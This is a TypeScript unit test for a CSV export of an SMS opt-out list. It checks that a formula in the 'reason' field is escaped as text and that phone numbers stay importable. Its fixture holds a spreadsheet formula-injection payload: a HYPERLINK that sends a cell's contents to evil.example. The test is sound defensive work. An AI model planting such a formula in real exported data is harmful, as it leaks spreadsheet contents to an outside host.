import { importRows, suppressionsCsv } from './suppression-csv';

describe('the opt-out list as CSV', () => {
  const row = {
    phone: '+447400888888',
    source: 'API',
    reason: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    campaignId: null,
    createdAt: '2026-12-07T09:00:00.000Z',
  };

  it('should write a reason a spreadsheet would run as a formula as text, and keep the number importable', () => {
    const csv = suppressionsCsv([row] as Parameters<typeof suppressionsCsv>[0]);
    expect(csv).toBe(
      'phone,source,reason,campaignId,createdAt\r\n' +
        '+447400888888,API,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,2026-12-07T09:00:00.000Z\r\n',
    );
    expect(importRows(csv)).toEqual([{ row: 2, phone: '+447400888888' }]);
  });
});
